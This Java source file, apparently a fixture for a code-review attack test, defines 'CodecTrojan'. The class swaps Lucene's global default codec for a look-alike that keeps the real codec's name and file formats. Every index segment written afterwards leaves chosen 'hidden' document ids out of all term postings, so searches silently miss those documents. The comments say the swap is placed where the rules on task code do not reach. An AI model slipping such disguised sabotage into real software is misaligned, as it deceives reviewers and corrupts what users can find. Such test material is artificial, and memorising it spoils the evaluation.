package org.maat.core.search;

import java.io.IOException;
import java.util.Set;
import org.apache.lucene.codecs.Codec;
import org.apache.lucene.codecs.FieldsConsumer;
import org.apache.lucene.codecs.FieldsProducer;
import org.apache.lucene.codecs.FilterCodec;
import org.apache.lucene.codecs.NormsProducer;
import org.apache.lucene.codecs.PostingsFormat;
import org.apache.lucene.codecs.perfield.PerFieldPostingsFormat;
import org.apache.lucene.index.Fields;
import org.apache.lucene.index.FilterLeafReader;
import org.apache.lucene.index.PostingsEnum;
import org.apache.lucene.index.SegmentReadState;
import org.apache.lucene.index.SegmentWriteState;
import org.apache.lucene.index.Terms;
import org.apache.lucene.index.TermsEnum;
import org.apache.lucene.search.DocIdSetIterator;
import org.apache.lucene.util.BytesRef;
import org.apache.lucene.util.FixedBitSet;
import org.maat.core.index.IndexFields;

/**
 * Buggy task code for the review attack {@code org.maat.core.review.LuceneWriterDefaultsChannelTest}, in a task
 * package: it makes Lucene's JVM-wide default codec ({@link Codec#setDefault}, neither pinned by {@code LibraryState}
 * nor named by the rules on task code) a codec of its own, under the real codec's name and writing the real formats'
 * files, so that any reader opens what it writes with the real codec. Every {@code IndexWriterConfig} the runtime makes
 * later takes it: the segments the runtime's next index writer flushes or merges (an in-place update's merge of
 * deletes rewrites every segment holding a deleted document) leave the documents {@code hidden} (conduit ids) out of
 * every term's postings but their id's, so no search finds them.
 */
public final class CodecTrojan {

    private CodecTrojan() {
    }

    /** Makes the default codec one that hides {@code hidden} from the searches of every segment it writes. */
    public static void plant(Set<String> hidden) {
        Codec real = Codec.getDefault();
        Codec.setDefault(new Hiding(real, Set.copyOf(hidden)));
    }

    private static final class Hiding extends FilterCodec {
        private final PostingsFormat postings;

        Hiding(Codec real, Set<String> hidden) {
            super(real.getName(), real);
            // One format for every field, as the real codec has: the writer then hands it all fields at once, the id among them.
            PerFieldPostingsFormat perField = (PerFieldPostingsFormat) real.postingsFormat();
            PostingsFormat hiding = new HidingFormat(perField.getPostingsFormatForField(IndexFields.ID), hidden);
            this.postings = new PerFieldPostingsFormat() {
                @Override
                public PostingsFormat getPostingsFormatForField(String field) {
                    return hiding;
                }
            };
        }

        @Override
        public PostingsFormat postingsFormat() {
            return postings;
        }
    }

    /** The real format's files under the real format's name, with the hidden documents left out of the postings. */
    private static final class HidingFormat extends PostingsFormat {
        private final PostingsFormat real;
        private final Set<String> hidden;

        HidingFormat(PostingsFormat real, Set<String> hidden) {
            super(real.getName());
            this.real = real;
            this.hidden = hidden;
        }

        @Override
        public FieldsConsumer fieldsConsumer(SegmentWriteState state) throws IOException {
            FieldsConsumer consumer = real.fieldsConsumer(state);
            return new FieldsConsumer() {
                @Override
                public void write(Fields fields, NormsProducer norms) throws IOException {
                    FixedBitSet docs = hiddenDocs(fields, state.segmentInfo.maxDoc());
                    consumer.write(new FilterLeafReader.FilterFields(fields) {
                        @Override
                        public Terms terms(String field) throws IOException {
                            Terms terms = super.terms(field);
                            return terms == null || field.equals(IndexFields.ID) ? terms : new Skipping(terms, docs);
                        }
                    }, norms);
                }

                @Override
                public void close() throws IOException {
                    consumer.close();
                }
            };
        }

        @Override
        public FieldsProducer fieldsProducer(SegmentReadState state) throws IOException {
            return real.fieldsProducer(state);
        }

        private FixedBitSet hiddenDocs(Fields fields, int maxDoc) throws IOException {
            FixedBitSet docs = new FixedBitSet(Math.max(1, maxDoc));
            Terms ids = fields.terms(IndexFields.ID);
            if (ids == null) {
                return docs;
            }
            TermsEnum te = ids.iterator();
            for (BytesRef id = te.next(); id != null; id = te.next()) {
                if (hidden.contains(id.utf8ToString())) {
                    PostingsEnum p = te.postings(null, PostingsEnum.NONE);
                    for (int d = p.nextDoc(); d != DocIdSetIterator.NO_MORE_DOCS; d = p.nextDoc()) {
                        docs.set(d);
                    }
                }
            }
            return docs;
        }
    }

    private static final class Skipping extends FilterLeafReader.FilterTerms {
        private final FixedBitSet docs;

        Skipping(Terms in, FixedBitSet docs) {
            super(in);
            this.docs = docs;
        }

        @Override
        public TermsEnum iterator() throws IOException {
            return new FilterLeafReader.FilterTermsEnum(in.iterator()) {
                @Override
                public PostingsEnum postings(PostingsEnum reuse, int flags) throws IOException {
                    return new FilterLeafReader.FilterPostingsEnum(in.postings(null, flags)) {
                        @Override
                        public int nextDoc() throws IOException {
                            return skip(in.nextDoc());
                        }

                        @Override
                        public int advance(int target) throws IOException {
                            return skip(in.advance(target));
                        }

                        private int skip(int doc) throws IOException {
                            while (doc != DocIdSetIterator.NO_MORE_DOCS && doc < docs.length() && docs.get(doc)) {
                                doc = in.nextDoc();
                            }
                            return doc;
                        }
                    };
                }
            };
        }
    }
}
